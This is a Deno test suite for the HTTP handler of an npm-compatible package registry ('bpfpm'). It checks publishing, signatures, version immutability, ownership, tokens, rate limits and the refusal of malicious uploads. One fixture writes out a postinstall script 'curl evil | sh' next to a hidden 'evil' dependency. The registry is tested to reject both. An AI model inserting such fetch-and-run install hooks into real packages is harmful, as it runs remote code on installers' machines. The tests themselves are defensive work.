/**
 * The handler, driven with `new Request(...)`: protocol, security rules, and refusals
 * that store nothing.
 */
import { Buffer } from "node:buffer";
import {
  createHash,
  createPublicKey,
  generateKeyPairSync,
  verify,
} from "node:crypto";
import { gunzipSync } from "node:zlib";
import { assert, assertEquals, assertMatch } from "./_assert.ts";
import {
  keyBody,
  newPublisherKey,
  publishDoc,
  req,
  signup,
} from "./_helpers.ts";
import { hostileCases } from "./_hostile.ts";
import {
  createRegistryHandler,
  type RegistryHandlerOptions,
} from "../../registry/server/handler.ts";
import {
  openSqliteStore,
  type SqlStore,
} from "../../registry/server/sql_store.ts";
import { createTarball } from "../../registry/pack/mod.ts";

const BASE = "http://registry.test";

async function withHandler(
  fn: (
    h: (r: Request) => Promise<Response>,
    store: SqlStore,
  ) => Promise<void>,
  opts: Partial<RegistryHandlerOptions> = {},
) {
  const dir = await Deno.makeTempDir({ prefix: "bpfpm-handler-" });
  const store = openSqliteStore(`${dir}/r.db`);
  try {
    const h = await createRegistryHandler({ store, ...opts });
    await fn((r) => h(r, { remoteAddr: { hostname: "127.0.0.1" } }), store);
  } finally {
    await store.close();
    await Deno.remove(dir, { recursive: true });
  }
}

async function body(res: Response): Promise<Record<string, unknown>> {
  return await res.json();
}

const probe = (version = "1.0.0", extra: Record<string, unknown> = {}) => ({
  name: "probe",
  version,
  description: "A probe",
  keywords: ["bpf"],
  bpf: {
    entry: "mod.ts",
    grants: { attach: [{ kind: "tracepoint", target: "sched:*" }] },
  },
  ...extra,
});
const probeFiles = {
  "mod.ts": "export {};\n",
  "README.md": "# probe\n\nHello **world**.\n",
};

Deno.test("publish, packuments (full, abbreviated, ETag/304), tarball, signature", async () => {
  await withHandler(async (h) => {
    assertEquals((await h(req(BASE, "GET", "/-/ping"))).status, 200);
    assertEquals(
      (await h(req(BASE, "POST", "/-/v1/login", { body: {} }))).status,
      404,
    );
    const alice = await signup(h, BASE, "alice");
    assertEquals(
      await body(await h(req(BASE, "GET", "/-/whoami", { token: alice }))),
      { username: "alice" },
    );
    assertEquals((await h(req(BASE, "GET", "/-/whoami"))).status, 401);

    const tgz = await createTarball({
      "package.json": JSON.stringify(probe()),
      ...probeFiles,
    });
    const doc = await publishDoc(probe(), {}, { tarball: tgz });
    const res = await h(
      req(BASE, "PUT", "/probe", { token: alice, body: doc }),
    );
    assertEquals(res.status, 201, JSON.stringify(await res.clone().json()));

    const abbr = await h(
      req(BASE, "GET", "/probe", {
        headers: {
          accept:
            "application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*",
        },
      }),
    );
    assertEquals(abbr.status, 200);
    assertMatch(
      abbr.headers.get("content-type")!,
      /vnd\.npm\.install-v1\+json/,
    );
    const a = await body(abbr);
    const v = (a.versions as Record<string, Record<string, unknown>>)["1.0.0"];
    const dist = v.dist as Record<string, unknown>;
    assertEquals(
      dist.integrity,
      `sha512-${createHash("sha512").update(tgz).digest("base64")}`,
    );
    assertEquals(dist.shasum, createHash("sha1").update(tgz).digest("hex"));
    assertEquals(dist.tarball, `${BASE}/probe/-/probe-1.0.0.tgz`);
    assertEquals((v.bpf as Record<string, unknown>).entry, "mod.ts");
    assert(
      !("readme" in a) && !("description" in v),
      "the abbreviated document is abbreviated",
    );

    const etag = abbr.headers.get("etag")!;
    const again = await h(
      req(BASE, "GET", "/probe", {
        headers: {
          accept: "application/vnd.npm.install-v1+json",
          "if-none-match": etag,
        },
      }),
    );
    assertEquals(again.status, 304);

    const full = await body(await h(req(BASE, "GET", "/probe")));
    assertEquals(full._id, "probe");
    assertMatch(String(full._rev), /^1-/);
    assertMatch(String(full.readme), /Hello \*\*world\*\*/);
    assertEquals((full.maintainers as { name: string }[])[0].name, "alice");
    assertEquals(full["dist-tags"], { latest: "1.0.0" });

    const tar = await h(req(BASE, "GET", "/probe/-/probe-1.0.0.tgz"));
    assertEquals(new Uint8Array(await tar.arrayBuffer()), tgz);

    const { keys } = await body(
      await h(req(BASE, "GET", "/-/npm/v1/keys")),
    ) as { keys: { keyid: string; key: string }[] };
    const sig = (dist.signatures as { keyid: string; sig: string }[])[0];
    assertEquals(sig.keyid, keys[0].keyid);
    const key = createPublicKey({
      key: Buffer.from(keys[0].key, "base64"),
      format: "der",
      type: "spki",
    });
    assert(
      verify(
        "sha256",
        Buffer.from(`probe@1.0.0:${dist.integrity}`),
        key,
        Buffer.from(sig.sig, "base64"),
      ),
    );

    const one = await body(await h(req(BASE, "GET", "/probe/latest")));
    assertEquals(one.version, "1.0.0");

    const found = await body(
      await h(req(BASE, "GET", "/-/v1/search?text=prob")),
    );
    assertEquals(
      (found.objects as { package: { name: string } }[])[0].package.name,
      "probe",
    );
  });
});

Deno.test("versions are immutable and numbers are never reused", async () => {
  await withHandler(async (h) => {
    const alice = await signup(h, BASE, "alice");
    const doc = await publishDoc(probe(), probeFiles);
    assertEquals(
      (await h(req(BASE, "PUT", "/probe", { token: alice, body: doc }))).status,
      201,
    );
    const changed = await publishDoc(
      probe("1.0.0", { description: "changed" }),
      probeFiles,
    );
    const res = await h(
      req(BASE, "PUT", "/probe", { token: alice, body: changed }),
    );
    assertEquals(res.status, 403);
    assertMatch(String((await body(res)).error), /cannot publish over/);
    assertEquals(
      (await h(
        req(BASE, "PUT", "/probe", {
          token: alice,
          body: await publishDoc(probe("1.1.0"), probeFiles),
        }),
      )).status,
      201,
    );
    const w = await body(
      await h(req(BASE, "GET", "/probe?write=true", { token: alice })),
    );
    delete (w.versions as Record<string, unknown>)["1.1.0"];
    assertEquals(
      (await h(
        req(BASE, "PUT", `/probe/-rev/${w._rev}`, { token: alice, body: w }),
      )).status,
      200,
    );
    const again = await h(
      req(BASE, "PUT", "/probe", {
        token: alice,
        body: await publishDoc(probe("1.1.0"), probeFiles),
      }),
    );
    assertEquals(again.status, 403);
    assertMatch(String((await body(again)).error), /cannot be reused/);
  });
});

Deno.test("manifest confusion and bad bpf manifests are refused, nothing stored", async () => {
  await withHandler(async (h, store) => {
    const alice = await signup(h, BASE, "alice");
    const cases: [
      string,
      Record<string, unknown>,
      Record<string, unknown>,
      RegExp,
    ][] = [
      [
        "hidden dependency",
        probe("1.0.0", { dependencies: { evil: "1.0.0" } }),
        probe(),
        /dependencies/,
      ],
      [
        "install script",
        probe("1.0.0", { scripts: { postinstall: "curl evil | sh" } }),
        probe(),
        /install scripts/,
      ],
      [
        "bin",
        probe("1.0.0", { bin: { probe: "evil.js" } }),
        probe("1.0.0", { bin: { probe: "mod.ts" } }),
        /bin/,
      ],
      [
        "bpf grants",
        probe("1.0.0", {
          bpf: { entry: "mod.ts", grants: { helpers: ["send_signal"] } },
        }),
        probe(),
        /bpf/,
      ],
      ["name", { ...probe(), name: "other" }, probe(), /names "other"/],
      ["version", probe("2.0.0"), probe(), /version "2\.0\.0"/],
    ];
    for (const [label, inTarball, inDoc, re] of cases) {
      const tgz = await createTarball({
        "package.json": JSON.stringify(inTarball),
        ...probeFiles,
      });
      const doc = await publishDoc(inDoc, {}, { tarball: tgz });
      const res = await h(
        req(BASE, "PUT", "/probe", { token: alice, body: doc }),
      );
      const b = await body(res);
      assertEquals(res.status, 400, `${label}: ${JSON.stringify(b)}`);
      assertMatch(String(b.error), re, label);
    }
    const badBpf: [Record<string, unknown>, RegExp][] = [
      [
        { entry: "mod.ts", grants: { helpers: ["rootkit"] } },
        /helpers\[0\]: must be one of/,
      ],
      [{ entry: "missing.ts" }, /missing\.ts, which is not in the tarball/],
      [{ entry: "mod.ts", deno: ["-A"] }, /deno\[0\]/],
    ];
    for (const [bpf, re] of badBpf) {
      const res = await h(
        req(BASE, "PUT", "/probe", {
          token: alice,
          body: await publishDoc(probe("1.0.0", { bpf }), probeFiles),
        }),
      );
      const b = await body(res);
      assertEquals(res.status, 400, JSON.stringify(b));
      assertEquals(b.code, "bad-bpf-manifest");
      assertMatch(String(b.error), re);
    }
    assertEquals(await store.getPackage("probe"), null);
    assertEquals(await store.getVersions("probe"), []);
    const ok = await h(
      req(BASE, "PUT", "/probe", {
        token: alice,
        body: await publishDoc(
          probe("1.0.0", { dependencies: {} }),
          probeFiles,
          { docManifest: probe() },
        ),
      }),
    );
    assertEquals(ok.status, 201);
  });
});

Deno.test("hostile tarballs are refused with their reason and nothing is stored", async () => {
  await withHandler(async (h, store) => {
    const alice = await signup(h, BASE, "alice");
    for (const c of await hostileCases("probe", "1.0.0")) {
      const doc = await publishDoc(probe(), {}, { tarball: c.tgz });
      const res = await h(
        req(BASE, "PUT", "/probe", { token: alice, body: doc }),
      );
      const b = await body(res);
      assert(
        res.status === 400 || res.status === 413,
        `${c.label}: ${res.status}`,
      );
      assertEquals(b.code, c.reason, `${c.label}: ${JSON.stringify(b)}`);
      assertMatch(String(b.error), /^Tarball refused/);
    }
    assertEquals(await store.getPackage("probe"), null);
    assertEquals(await store.getTarball("probe", "probe-1.0.0.tgz"), null);
    assertEquals((await h(req(BASE, "GET", "/probe"))).status, 404);
  }, { limits: { maxUnpackedSize: 8 * 1024 * 1024 } });
});

Deno.test("caps: body size, compressed size, file count", async () => {
  await withHandler(async (h) => {
    const alice = await signup(h, BASE, "alice");
    const big = { "blob.bin": crypto.getRandomValues(new Uint8Array(60_000)) };
    const res = await h(
      req(BASE, "PUT", "/probe", {
        token: alice,
        body: await publishDoc(probe(), { ...probeFiles, ...big }),
      }),
    );
    assertEquals(res.status, 413);
    const many = Object.fromEntries(
      Array.from({ length: 30 }, (_, i) => [`f${i}.js`, ""]),
    );
    const r2 = await h(
      req(BASE, "PUT", "/probe", {
        token: alice,
        body: await publishDoc(probe(), { ...probeFiles, ...many }),
      }),
    );
    assertEquals((await body(r2)).code, "too-many-files");
  }, { maxBodySize: 50_000, limits: { maxFiles: 20 } });
});

Deno.test("ownership: another user cannot publish, tag, deprecate or unpublish", async () => {
  await withHandler(async (h) => {
    const alice = await signup(h, BASE, "alice"); // the first user: admin
    const bob = await signup(h, BASE, "bob");
    const carol = await signup(h, BASE, "carol");
    assertEquals(
      (await h(
        req(BASE, "PUT", "/probe", {
          token: bob,
          body: await publishDoc(probe(), probeFiles),
        }),
      )).status,
      201,
    );
    const theirs = async (token: string) => {
      const w = await body(
        await h(req(BASE, "GET", "/probe?write=true", { token })),
      );
      const statuses = [
        (await h(
          req(BASE, "PUT", "/probe", {
            token,
            body: await publishDoc(probe("2.0.0"), probeFiles),
          }),
        )).status,
        (await h(
          req(BASE, "PUT", "/-/package/probe/dist-tags/evil", {
            token,
            body: "1.0.0",
          }),
        )).status,
        (await h(
          req(BASE, "PUT", "/probe", {
            token,
            body: { ...w, versions: { "1.0.0": { deprecated: "x" } } },
          }),
        )).status,
        (await h(
          req(BASE, "PUT", `/probe/-rev/${w._rev}`, {
            token,
            body: {
              _id: "probe",
              _rev: w._rev,
              maintainers: [{ name: "carol" }],
            },
          }),
        )).status,
        (await h(req(BASE, "DELETE", `/probe/-rev/${w._rev}`, { token })))
          .status,
        (await h(
          req(BASE, "DELETE", `/probe/-/probe-1.0.0.tgz/-rev/${w._rev}`, {
            token,
          }),
        )).status,
      ];
      return statuses;
    };
    assertEquals(await theirs(carol), [403, 403, 403, 403, 403, 403]);
    const pkg = await body(await h(req(BASE, "GET", "/probe")));
    assertEquals(Object.keys(pkg.versions as object), ["1.0.0"]);
    assertEquals(pkg["dist-tags"], { latest: "1.0.0" });
    // Owners add owners; then carol may tag.
    const w = await body(
      await h(req(BASE, "GET", "/probe?write=true", { token: bob })),
    );
    const add = await h(
      req(BASE, "PUT", `/probe/-rev/${w._rev}`, {
        token: bob,
        body: {
          _id: "probe",
          _rev: w._rev,
          maintainers: [{ name: "bob" }, { name: "carol" }],
        },
      }),
    );
    assertEquals(add.status, 200);
    assertEquals(
      (await h(
        req(BASE, "PUT", "/-/package/probe/dist-tags/beta", {
          token: carol,
          body: "1.0.0",
        }),
      )).status,
      200,
    );
    // A stale revision conflicts.
    const stale = await h(
      req(BASE, "PUT", `/probe/-rev/${w._rev}`, {
        token: bob,
        body: { maintainers: [{ name: "bob" }] },
      }),
    );
    assertEquals(stale.status, 409);
    // Scopes: @bob is bob's; the admin makes an org and adds carol.
    assertEquals(
      (await h(
        req(BASE, "PUT", "/@bob%2ftool", {
          token: carol,
          body: await publishDoc({ name: "@bob/tool", version: "1.0.0" }),
        }),
      )).status,
      403,
    );
    assertEquals(
      (await h(
        req(BASE, "PUT", "/@bob%2ftool", {
          token: bob,
          body: await publishDoc({ name: "@bob/tool", version: "1.0.0" }),
        }),
      )).status,
      201,
    );
    assertEquals((await h(req(BASE, "GET", "/@bob/tool"))).status, 200);
    assertEquals(
      (await h(req(BASE, "GET", "/@bob/tool/-/tool-1.0.0.tgz"))).status,
      200,
    );
    assertEquals(
      (await h(
        req(BASE, "PUT", "/-/org/probes/user", {
          token: bob,
          body: { user: "carol", role: "owner" },
        }),
      )).status,
      403,
    );
    assertEquals(
      (await h(
        req(BASE, "PUT", "/-/org/probes/user", {
          token: alice,
          body: { user: "carol", role: "owner" },
        }),
      )).status,
      200,
    );
    assertEquals(
      (await h(
        req(BASE, "PUT", "/@probes%2fx", {
          token: bob,
          body: await publishDoc({ name: "@probes/x", version: "1.0.0" }),
        }),
      )).status,
      403,
    );
    assertEquals(
      (await h(
        req(BASE, "PUT", "/@probes%2fx", {
          token: carol,
          body: await publishDoc({ name: "@probes/x", version: "1.0.0" }),
        }),
      )).status,
      201,
    );
  });
});

Deno.test("unpublish: within 72 hours by an owner, later only by an admin", async () => {
  let clock = Date.parse("2026-01-01T00:00:00Z");
  await withHandler(async (h) => {
    const admin = await signup(h, BASE, "root");
    const alice = await signup(h, BASE, "alice");
    for (const v of ["1.0.0", "1.1.0", "1.2.0"]) {
      assertEquals(
        (await h(
          req(BASE, "PUT", "/probe", {
            token: alice,
            body: await publishDoc(probe(v), probeFiles),
          }),
        )).status,
        201,
      );
    }
    const drop = async (token: string, version: string) => {
      const w = await body(
        await h(req(BASE, "GET", "/probe?write=true", { token })),
      );
      delete (w.versions as Record<string, unknown>)[version];
      return (await h(
        req(BASE, "PUT", `/probe/-rev/${w._rev}`, { token, body: w }),
      )).status;
    };
    assertEquals(await drop(alice, "1.2.0"), 200);
    let tags = await body(
      await h(req(BASE, "GET", "/-/package/probe/dist-tags")),
    );
    assertEquals(tags, { latest: "1.1.0" });
    clock += 73 * 3600_000;
    assertEquals(await drop(alice, "1.1.0"), 403);
    assertEquals(await drop(admin, "1.1.0"), 200);
    tags = await body(await h(req(BASE, "GET", "/-/package/probe/dist-tags")));
    assertEquals(tags, { latest: "1.0.0" });
    const w = await body(
      await h(req(BASE, "GET", "/probe?write=true", { token: alice })),
    );
    assertEquals(
      (await h(req(BASE, "DELETE", `/probe/-rev/${w._rev}`, { token: alice })))
        .status,
      403,
    );
    assertEquals(
      (await h(req(BASE, "DELETE", `/probe/-rev/${w._rev}`, { token: admin })))
        .status,
      200,
    );
    assertEquals((await h(req(BASE, "GET", "/probe"))).status, 404);
  }, { now: () => new Date(clock), admins: ["root"] });
});

Deno.test("dist-tags and deprecation", async () => {
  await withHandler(async (h) => {
    const alice = await signup(h, BASE, "alice");
    for (const v of ["1.0.0", "2.0.0-beta.1"]) {
      const tag = v.includes("beta") ? "beta" : "latest";
      assertEquals(
        (await h(
          req(BASE, "PUT", "/probe", {
            token: alice,
            body: await publishDoc(probe(v), probeFiles, { tag }),
          }),
        )).status,
        201,
      );
    }
    assertEquals(
      await body(await h(req(BASE, "GET", "/-/package/probe/dist-tags"))),
      { latest: "1.0.0", beta: "2.0.0-beta.1" },
    );
    assertEquals(
      (await h(
        req(BASE, "PUT", "/-/package/probe/dist-tags/next", {
          token: alice,
          body: "9.9.9",
        }),
      )).status,
      400,
    );
    assertEquals(
      (await h(
        req(BASE, "PUT", "/-/package/probe/dist-tags/1.x", {
          token: alice,
          body: "1.0.0",
        }),
      )).status,
      400,
    );
    assertEquals(
      (await h(
        req(BASE, "DELETE", "/-/package/probe/dist-tags/latest", {
          token: alice,
        }),
      )).status,
      400,
    );
    assertEquals(
      (await h(
        req(BASE, "DELETE", "/-/package/probe/dist-tags/beta", {
          token: alice,
        }),
      )).status,
      200,
    );
    assertEquals(
      await body(await h(req(BASE, "GET", "/-/package/probe/dist-tags"))),
      { latest: "1.0.0" },
    );
    // The cached packument follows every change.
    const accept = { accept: "application/vnd.npm.install-v1+json" };
    const before = await h(req(BASE, "GET", "/probe", { headers: accept }));
    assertEquals(
      ((await body(before))["dist-tags"] as Record<string, string>).next,
      undefined,
    );
    assertEquals(
      (await h(
        req(BASE, "PUT", "/-/package/probe/dist-tags/next", {
          token: alice,
          body: "1.0.0",
        }),
      )).status,
      200,
    );
    const after = await h(
      req(BASE, "GET", "/probe", {
        headers: { ...accept, "if-none-match": before.headers.get("etag")! },
      }),
    );
    assertEquals(after.status, 200);
    assertEquals(
      ((await body(after))["dist-tags"] as Record<string, string>).next,
      "1.0.0",
    );
    const w = await body(
      await h(req(BASE, "GET", "/probe?write=true", { token: alice })),
    );
    (w.versions as Record<string, Record<string, unknown>>)["1.0.0"]
      .deprecated = "use 2";
    assertEquals(
      (await h(req(BASE, "PUT", "/probe", { token: alice, body: w }))).status,
      200,
    );
    const a = await body(
      await h(
        req(BASE, "GET", "/probe", {
          headers: { accept: "application/vnd.npm.install-v1+json" },
        }),
      ),
    );
    assertEquals(
      (a.versions as Record<string, Record<string, unknown>>)["1.0.0"]
        .deprecated,
      "use 2",
    );
  });
});

Deno.test("accounts: hashed secrets, read-only tokens, revocation, login rate limit", async () => {
  await withHandler(async (h, store) => {
    const alice = await signup(h, BASE, "alice");
    const user = await store.getUser("alice");
    assertMatch(user!.passwordHash, /^scrypt\$\d+\$8\$1\$/);
    assert(!user!.passwordHash.includes("alice-secret-pw"));
    const [tok] = await store.listTokens("alice");
    assertEquals(tok.hash, createHash("sha256").update(alice).digest("hex"));
    assert(!JSON.stringify(tok).includes(alice));

    const cidr = await h(
      req(BASE, "POST", "/-/npm/v1/tokens", {
        token: alice,
        body: { password: "alice-secret-pw", cidr_whitelist: ["10.0.0.0/8"] },
      }),
    );
    assertEquals(cidr.status, 400);
    const created = await h(
      req(BASE, "POST", "/-/npm/v1/tokens", {
        token: alice,
        body: { password: "alice-secret-pw", readonly: true },
      }),
    );
    assertEquals(created.status, 201);
    const ro = await body(created);
    assertEquals(ro.readonly, true);
    const denied = await h(
      req(BASE, "PUT", "/probe", {
        token: String(ro.token),
        body: await publishDoc(probe(), probeFiles),
      }),
    );
    assertEquals(denied.status, 403);
    assertMatch(String((await body(denied)).error), /read-only/);
    assertEquals(
      (await h(req(BASE, "GET", "/-/whoami", { token: String(ro.token) })))
        .status,
      200,
    );
    const list = await body(
      await h(req(BASE, "GET", "/-/npm/v1/tokens", { token: alice })),
    );
    assertEquals(list.total, 2);
    assertEquals(
      (await h(
        req(BASE, "DELETE", `/-/npm/v1/tokens/token/${ro.key}`, {
          token: alice,
        }),
      )).status,
      204,
    );
    assertEquals(
      (await h(req(BASE, "GET", "/-/whoami", { token: String(ro.token) })))
        .status,
      401,
    );

    // Logging in again gives a new token; a wrong password is refused, then rate-limited.
    assertEquals((await signup(h, BASE, "alice")).startsWith("bpfpm_"), true);
    const wrong = () =>
      h(req(BASE, "PUT", "/-/user/org.couchdb.user:alice", {
        body: { name: "alice", password: "wrong-password" },
      }));
    const statuses = [];
    for (let i = 0; i < 6; i++) statuses.push((await wrong()).status);
    assertEquals(statuses, [401, 401, 401, 401, 401, 429]);
    const locked = await h(
      req(BASE, "PUT", "/-/user/org.couchdb.user:alice", {
        body: { name: "alice", password: "alice-secret-pw" },
      }),
    );
    assertEquals(locked.status, 429);
    // npm logout: DELETE /-/user/token/:token.
    assertEquals(
      (await h(req(BASE, "DELETE", `/-/user/token/${alice}`, { token: alice })))
        .status,
      200,
    );
    assertEquals(
      (await h(req(BASE, "GET", "/-/whoami", { token: alice }))).status,
      401,
    );
    // Sign-up rules.
    const short = await h(
      req(BASE, "PUT", "/-/user/org.couchdb.user:dave", {
        body: { name: "dave", password: "short" },
      }),
    );
    assertEquals(short.status, 400);
  });
});

Deno.test("sign-up can be closed", async () => {
  await withHandler(async (h) => {
    const res = await h(
      req(BASE, "PUT", "/-/user/org.couchdb.user:eve", {
        body: { name: "eve", password: "long-enough-pw" },
      }),
    );
    assertEquals(res.status, 403);
  }, { signup: false });
});

Deno.test("concurrent publishes of one version: exactly one wins", async () => {
  await withHandler(async (h, store) => {
    const alice = await signup(h, BASE, "alice");
    const docs = await Promise.all(
      Array.from(
        { length: 8 },
        (_, i) =>
          publishDoc(probe("1.0.0", { description: `try ${i}` }), probeFiles),
      ),
    );
    const results = await Promise.all(
      docs.map((d) => h(req(BASE, "PUT", "/probe", { token: alice, body: d }))),
    );
    const statuses = results.map((r) => r.status).sort();
    assertEquals(statuses, [201, 403, 403, 403, 403, 403, 403, 403]);
    const versions = await store.getVersions("probe");
    assertEquals(versions.length, 1);
    const winner = JSON.parse(versions[0].manifest);
    const tgz = await store.getTarball("probe", "probe-1.0.0.tgz");
    assertEquals(
      winner.dist.integrity,
      `sha512-${createHash("sha512").update(tgz!).digest("base64")}`,
    );
  });
});

Deno.test("a provenance bundle may ride along as a .sigstore attachment", async () => {
  await withHandler(async (h) => {
    const alice = await signup(h, BASE, "alice");
    const doc = await publishDoc(probe(), probeFiles);
    const bundle = {
      mediaType: "application/vnd.dev.sigstore.bundle+json;version=0.2",
      dsseEnvelope: { payload: "e30=" },
    };
    (doc._attachments as Record<string, unknown>)["probe-1.0.0.sigstore"] = {
      content_type: "application/vnd.dev.sigstore.bundle+json;version=0.2",
      data: Buffer.from(JSON.stringify(bundle)).toString("base64"),
      length: JSON.stringify(bundle).length,
    };
    assertEquals(
      (await h(req(BASE, "PUT", "/probe", { token: alice, body: doc }))).status,
      201,
    );
    const v = await body(await h(req(BASE, "GET", "/probe/1.0.0")));
    const att = (v.dist as Record<string, Record<string, string>>).attestations;
    assertEquals(att.url, `${BASE}/-/npm/v1/attestations/probe@1.0.0`);
    const got = await body(
      await h(req(BASE, "GET", "/-/npm/v1/attestations/probe@1.0.0")),
    );
    assertEquals((got.attestations as { bundle: unknown }[])[0].bundle, bundle);
    // A third attachment, or a second tarball, is refused.
    const extra = await publishDoc(probe("1.0.1"), probeFiles);
    (extra._attachments as Record<string, unknown>)["evil.js"] = {
      data: "AAAA",
      length: 3,
    };
    assertEquals(
      (await h(req(BASE, "PUT", "/probe", { token: alice, body: extra })))
        .status,
      400,
    );
  });
});

Deno.test("login attempts per client are capped per minute", async () => {
  await withHandler(async (h) => {
    for (const n of ["u1", "u2", "u3"]) await signup(h, BASE, n);
    const res = await h(
      req(BASE, "PUT", "/-/user/org.couchdb.user:u4", {
        body: { name: "u4", password: "long-enough-pw" },
      }),
    );
    assertEquals(res.status, 429);
    assertMatch(
      String((await body(res)).error),
      /Too many login attempts: wait \d+ s/,
    );
  }, { loginAttemptsPerMinute: 3 });
});

Deno.test("the compressed-size cap answers 413 before anything is unpacked", async () => {
  await withHandler(async (h, store) => {
    const alice = await signup(h, BASE, "alice");
    const noise = {
      "noise.bin": crypto.getRandomValues(new Uint8Array(20_000)),
    };
    const res = await h(
      req(BASE, "PUT", "/probe", {
        token: alice,
        body: await publishDoc(probe(), { ...probeFiles, ...noise }),
      }),
    );
    assertEquals(res.status, 413);
    assertEquals((await body(res)).code, "too-large-compressed");
    assertEquals(await store.getPackage("probe"), null);
  }, { limits: { maxCompressedSize: 10_000 } });
});

Deno.test("large packuments are served gzipped to clients that ask; If-None-Match lists", async () => {
  await withHandler(async (h) => {
    const alice = await signup(h, BASE, "alice");
    for (let i = 0; i < 12; i++) {
      const doc = await publishDoc(
        probe(`1.${i}.0`, {
          dependencies: { semver: "^7.0.0", tar: "^7.0.0" },
        }),
        probeFiles,
      );
      assertEquals(
        (await h(req(BASE, "PUT", "/probe", { token: alice, body: doc })))
          .status,
        201,
      );
    }
    const plain = await h(req(BASE, "GET", "/probe"));
    const text = await plain.text();
    assert(text.length > 4096);
    const gz = await h(
      req(BASE, "GET", "/probe", {
        headers: { "accept-encoding": "gzip, deflate" },
      }),
    );
    assertEquals(gz.headers.get("content-encoding"), "gzip");
    assertEquals(
      new TextDecoder().decode(
        gunzipSync(new Uint8Array(await gz.arrayBuffer())),
      ),
      text,
    );
    const etag = plain.headers.get("etag")!;
    const list = await h(
      req(BASE, "GET", "/probe", {
        headers: { "if-none-match": `W/"nope", W/${etag}` },
      }),
    );
    assertEquals(list.status, 304);
  });
});

Deno.test("npm's own normalisation is not manifest confusion (bin string, node-gyp)", async () => {
  await withHandler(async (h) => {
    const alice = await signup(h, BASE, "alice");
    const pj = { name: "native", version: "1.0.0", bin: "./cli.js" };
    const tgz = await createTarball({
      "package.json": JSON.stringify(pj),
      "cli.js": "",
      "binding.gyp": "{}",
    });
    const docManifest = {
      ...pj,
      bin: { native: "cli.js" },
      scripts: { install: "node-gyp rebuild" },
      gypfile: true,
    };
    const res = await h(
      req(BASE, "PUT", "/native", {
        token: alice,
        body: await publishDoc(pj, {}, { tarball: tgz, docManifest }),
      }),
    );
    assertEquals(res.status, 201, JSON.stringify(await res.clone().json()));
    const v = await body(await h(req(BASE, "GET", "/native/1.0.0")));
    assertEquals(v.bin, { native: "cli.js" });
    assertEquals(v.hasInstallScript, true);
  });
});

Deno.test("publisher keys: malformed registrations are refused with their reason, nothing stored", async () => {
  await withHandler(async (h, store) => {
    const alice = await signup(h, BASE, "alice");
    const k = newPublisherKey();
    const path = `/-/bpfpm/v1/keys/${k.keyid}`;
    const put = async (b: unknown, token = alice) => {
      const res = await h(req(BASE, "PUT", path, { token, body: b }));
      return { status: res.status, error: String((await body(res)).error) };
    };
    const noProof = await put({ keyid: k.keyid, key: k.key });
    assertEquals(noProof.status, 400);
    assertMatch(noProof.error, /Send \{ keyid, key, proof \}/);
    const otherId = await put({
      ...keyBody(k, "alice"),
      keyid: "ed25519:00000000000000000000000000000000",
    });
    assertEquals(otherId.status, 400);
    assertMatch(otherId.error, /The body names key .* but the URL names/);
    const ec = generateKeyPairSync("ec", { namedCurve: "P-256" }).publicKey
      .export({ format: "der", type: "spki" }) as Buffer;
    const notEd = await put({
      ...keyBody(k, "alice"),
      key: ec.toString("base64"),
    });
    assertEquals(notEd.status, 400);
    assertMatch(notEd.error, /is ec, not ed25519/);
    const garbage = await put({ ...keyBody(k, "alice"), key: "bm90IGEga2V5" });
    assertEquals(garbage.status, 400);
    assertMatch(garbage.error, /not an SPKI public key/);
    const ro = await body(
      await h(req(BASE, "POST", "/-/npm/v1/tokens", {
        token: alice,
        body: { password: "alice-secret-pw", readonly: true },
      })),
    );
    const readOnly = await put(keyBody(k, "alice"), String(ro.token));
    assertEquals(readOnly.status, 403);
    assertMatch(readOnly.error, /read-only/);
    assertEquals(await store.getPublisherKey(k.keyid), null);
    assertEquals(
      (await h(req(BASE, "GET", "/-/bpfpm/v1/keys"))).status,
      400,
    );
    assertEquals(
      (await h(req(BASE, "POST", path, { token: alice, body: {} }))).status,
      405,
    );
  });
});
